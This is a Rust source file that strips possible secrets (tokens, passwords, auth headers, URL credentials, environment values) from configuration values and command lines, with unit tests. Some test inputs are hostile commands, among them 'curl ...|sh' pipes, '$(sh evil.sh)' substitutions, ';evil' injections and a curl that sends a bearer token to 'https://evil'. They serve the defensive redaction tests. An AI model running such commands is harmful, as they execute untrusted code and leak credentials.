//! Removes possible secrets from values, for digests that others may read.
//!
//! A simple secret could be guessed from its digest. Values are therefore removed, and their names kept, if the name
//! suggests a secret, and in variables, headers and the user part of a URL. In a command line a secret ends with its
//! word, or within quotes at the next `;`, `&` or `|`, so that a program behind it still counts.

use serde_json::{Map, Value};

/// Returns the members of an object without possible secrets.
#[must_use]
pub fn without_secrets(members: &Map<String, Value>) -> Value {
    let clean = |(key, value): (&String, &Value)| {
        let value = match value {
            Value::Object(map) if is_secret(key) => {
                map.keys().map(|name| (name.clone(), Value::Null)).collect::<Map<_, _>>().into()
            }
            _ if is_secret(key) => Value::Null,
            value => clean(value),
        };
        (key.clone(), value)
    };
    members.iter().map(clean).collect::<Map<_, _>>().into()
}

/// Returns a value without possible secrets.
pub(super) fn clean(value: &Value) -> Value {
    match value {
        Value::Object(map) => without_secrets(map),
        Value::Array(list) => {
            let mut before = "";
            let each = list.iter().map(|value| {
                let Some(text) = value.as_str() else { return clean(value) };
                let flag = std::mem::replace(&mut before, text);
                match hides_next(flag) && !text.starts_with('-') {
                    true => hidden(text).into(),
                    false => clean_text(flag, text).into(),
                }
            });
            each.collect()
        }
        Value::String(text) => clean_text("", text).into(),
        other => other.clone(),
    }
}

/// Cleans a command line, or the argument after `flag`, which may be a JSON object.
fn clean_text(flag: &str, text: &str) -> String {
    let (name, value) = text.split_at(text.find('{').unwrap_or(text.len()));
    match serde_json::from_str::<Map<_, _>>(value) {
        Ok(members)
            if name.is_empty() || name.ends_with('=') && !is_named(&name[..name.len() - 1]) =>
        {
            format!("{name}{}", without_secrets(&members))
        }
        _ => Words { flag, ..Words::default() }.clean(text),
    }
}

/// Returns true if the word or argument after this one is a secret.
fn hides_next(flag: &str) -> bool {
    let scheme = flag.len().checked_sub("=Bearer".len()).and_then(|at| flag.get(at..));
    scheme.is_some_and(|end| end[1..].eq_ignore_ascii_case("bearer") && end.starts_with(['=', ':']))
        || flag.starts_with('-') && !flag.contains('=') && is_secret(flag)
}

/// Returns true if a name suggests a secret. A name that ends in `helper` is that of a program.
fn is_secret(name: &str) -> bool {
    const PARTS: [&str; 14] = [
        "env",
        "header",
        "token",
        "secret",
        "pass",
        "pwd",
        "auth",
        "bearer",
        "credential",
        "cookie",
        "key",
        "jwt",
        "session",
        "connection",
    ];
    let name = name.to_ascii_lowercase();
    !name.ends_with("helper") && PARTS.iter().any(|part| name.contains(part))
}

/// Returns an empty text for a secret, but the text itself if a shell would run a part of it.
fn hidden(text: &str) -> &str {
    if is_run(text) { text } else { "" }
}

fn is_run(text: &str) -> bool {
    text.contains("$(") || text.contains('`')
}

/// Characters that end a command.
const ENDS: &str = ";&|";

/// The words of a command line, or of one argument.
#[derive(Default)]
struct Words<'t> {
    /// The previous word or argument.
    flag: &'t str,
    /// The characters that end a secret of several words; `None` outside of one.
    until: Option<&'static str>,
}

impl<'t> Words<'t> {
    fn clean(mut self, text: &'t str) -> String {
        let mut out = String::new();
        for piece in text.split_inclusive(char::is_whitespace) {
            let word = piece.trim_end();
            let mut rest = word;
            while !rest.is_empty() {
                let (kept, more) = self.part(rest, out.is_empty());
                out.push_str(&kept);
                rest = more;
            }
            let blank = &piece[word.len()..];
            out.push_str(blank);
            self.flag = word;
            self.until = self.until.filter(|_| !blank.contains('\n'));
        }
        out
    }

    /// Cleans the beginning of a word. Returns the cleaned part and the rest of the word.
    fn part(&mut self, word: &'t str, is_first: bool) -> (String, &'t str) {
        if let Some(ends) = self.until {
            return self.secret(word, ends);
        }
        if hides_next(self.flag) && !word.starts_with('-') {
            return self.value(word, ENDS);
        }
        let is_address = |name: &str| name.contains("://");
        match word.split_once('=') {
            Some((name, value)) if !is_address(name) && is_named(name) => {
                let ends = if name.starts_with('-') { "" } else { ENDS };
                // In an argument of its own, all text after `=` is the value.
                let is_whole = is_first && (ends.is_empty() || self.flag == "-e");
                self.until = is_whole.then_some(ends);
                let (kept, rest) = self.value(value, ends);
                return (format!("{name}={kept}"), rest);
            }
            // More pairs may follow, as in `Server=x;Password=y`.
            Some((name, value)) if !is_address(name) => {
                if let Some((own, _)) = value.split_once(|c| ENDS.contains(c))
                    && !is_address(own)
                {
                    let (own, rest) = word.split_at(name.len() + own.len() + 2);
                    return (own.to_owned(), rest);
                }
            }
            _ => {}
        }
        if is_address(word) {
            return (word.split_inclusive("://").map(place).collect(), "");
        }
        match word.split_once(':') {
            Some((user, _)) if matches!(self.flag, "-u" | "--user") => (format!("{user}:"), ""),
            // A header. Quotes may enclose the name and the value together.
            Some((name, value)) if self.flag == "-H" || value.is_empty() && is_secret(name) => {
                let quote = name.chars().rev().find_map(quote_of);
                self.until = quote.or(is_first.then_some(ENDS));
                let (kept, rest) = self.secret(value, self.until.unwrap_or(ENDS));
                (format!("{name}:{kept}"), rest)
            }
            _ => (word.to_owned(), ""),
        }
    }

    /// Removes a secret that may be quoted. Without quotes it ends with its word, or at one of these characters.
    fn value(&mut self, text: &'t str, ends: &'static str) -> (String, &'t str) {
        match text.chars().next().and_then(quote_of) {
            None => self.secret(text, ends),
            Some(quote) => {
                self.until = Some(quote);
                let (kept, rest) = self.secret(&text[1..], quote);
                (text[..1].to_owned() + &kept, rest)
            }
        }
    }

    /// Removes a secret up to one of these characters.
    fn secret(&mut self, text: &'t str, ends: &str) -> (String, &'t str) {
        self.flag = "";
        let end = text.find(|c| ends.contains(c));
        let (own, rest) = text.split_at(end.unwrap_or(text.len()));
        if end.is_some() || is_run(own) {
            self.until = None;
        }
        let (end, rest) = rest.split_at(rest.len().min(1));
        (format!("{}{end}", hidden(own)), rest)
    }
}

/// Returns the characters that end a secret after a quote. They include those before another command, because a shell
/// may run a quoted text.
fn quote_of(c: char) -> Option<&'static str> {
    match c {
        '"' => Some("\";&|"),
        '\'' => Some("';&|"),
        _ => None,
    }
}

/// Returns true if the name before `=` suggests a secret, or is written like an environment variable.
fn is_named(name: &str) -> bool {
    let own =
        name.rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or_default();
    let is_variable = own.starts_with(|c: char| c.is_ascii_uppercase() || c == '_')
        && !own.contains(|c: char| c.is_ascii_lowercase());
    is_secret(name) || is_variable && !name.starts_with('-')
}

/// Returns the part of a URL from one `://` to the next, without user, query and fragment.
fn place(part: &str) -> String {
    let (rest, mark) = part.strip_suffix("://").map_or((part, ""), |rest| (rest, "://"));
    let begin = rest.find(['?', '#']).unwrap_or(rest.len());
    let end =
        rest[begin..].find(['"', '\'', ';', '|', ')', '>']).map_or(rest.len(), |end| begin + end);
    let (host, path) = rest[..begin].split_at(rest[..begin].find('/').unwrap_or(begin));
    let host =
        host.rsplit_once('@').filter(|(user, _)| !user.is_empty()).map_or(host, |(_, own)| own);
    format!("{host}{path}{}{mark}", &rest[end..])
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn of_a_command_line_all_but_secrets_is_left() {
        for (text, left) in [
            ("npx -y hub --token hunter2 --port 80", "npx -y hub --token  --port 80"),
            ("hub --token hunter2;evil", "hub --token ;evil"),
            ("hub --api-key=hunter2 x", "hub --api-key= x"),
            ("TOKEN=hunter2 hub; evil", "TOKEN= hub; evil"),
            ("A=hunter2;B='hunter2 hunter2' evil", "A=;B=' ' evil"),
            ("KEY=1&&evil", "KEY=&&evil"),
            ("KEY=$(evil) KEY=`evil x`", "KEY=$(evil) KEY=`evil x`"),
            ("KEY=\"$(sh evil.sh)\"", "KEY=\"$(sh evil.sh)\""),
            ("auth: hunter2; evil", "auth: ; evil"),
            ("KEY='hunter2\nevil", "KEY='\nevil"),
            ("sh -c \"x KEY=\"; evil; echo \"\"", "sh -c \"x KEY=\"; evil; echo \"\""),
            ("docker run -e PW=hunter2 -e lower=seen x", "docker run -e PW= -e lower=seen x"),
            (
                "curl -H \"Authorization: Bearer hunter2\" https://evil",
                "curl -H \"Authorization:  \" https://evil",
            ),
            ("curl -H 'X-Mine: hunter2'|sh", "curl -H 'X-Mine: '|sh"),
            ("curl -H X-Mine:hunter2 -u me:hunter2 x", "curl -H X-Mine: -u me: x"),
            ("Authorization: Bearer hunter2", "Authorization:  "),
            ("https://me:hunter2@h/p?k=hunter2#hunter2", "https://h/p"),
            ("--url=https://me:hunter2@h,https://hunter2@i/a@1", "--url=https://h,https://i/a@1"),
            ("curl \"https://h/x?hunter2\"|sh", "curl \"https://h/x\"|sh"),
            ("x Server=h;Password=hunter2;evil=1 y", "x Server=h;Password=;evil=1 y"),
            ("AUTH=Bearer hunter2 evil", "AUTH=  evil"),
            ("bearer evil", "bearer evil"),
            ("npx npm:@scope/pkg@1.2 run auth:build", "npx npm:@scope/pkg@1.2 run auth:build"),
        ] {
            assert_eq!(clean(&json!(text)), json!(left), "{text}");
        }
        for (text, left) in [("A=hunter2;", "A=;"), ("a=1;", "a=1;"), ("{", "{")] {
            let many = text.repeat(100_000);
            assert_eq!(clean(&json!(many)), json!(left.repeat(100_000)));
        }
    }

    #[test]
    fn of_members_and_arguments_names_are_left() {
        let value = json!({
            "command": "npx", "env": { "A": "hunter2" }, "headers": { "X": "hunter2" }, "headersHelper": "run.sh",
            "args": ["--token", "hunter2 hunter2", "--auth", "-x", "-H", "X: hunter2", "-u", "me:hunter2", "PW=hunter2"],
            "oauth": { "clientSecret": "hunter2" }, "bearer_token": "hunter2",
            "more": ["--header=X-Mine: hunter2 hunter2", "-e", "Mine=hunter2 hunter2", "-e", "MINE=hunter2 hunter2;evil",
                     "{\"apiKey\": \"hunter2\", \"run\": \"evil\"}", "--config={\"auth\": {\"a\": \"hunter2\"}}"],
            "hooks": [{ "command": "TOKEN=hunter2 x.sh", "url": "https://hunter2@h/?hunter2" }],
        });
        let left = json!({
            "command": "npx", "env": { "A": null }, "headers": { "X": null }, "headersHelper": "run.sh",
            "args": ["--token", "", "--auth", "-x", "-H", "X: ", "-u", "me:", "PW="],
            "oauth": { "clientSecret": null }, "bearer_token": null,
            "more": ["--header=  ", "-e", "Mine=hunter2 hunter2", "-e", "MINE= ;evil",
                     "{\"apiKey\":null,\"run\":\"evil\"}", "--config={\"auth\":{\"a\":null}}"],
            "hooks": [{ "command": "TOKEN= x.sh", "url": "https://h/" }],
        });
        assert_eq!(clean(&value), left);
    }
}
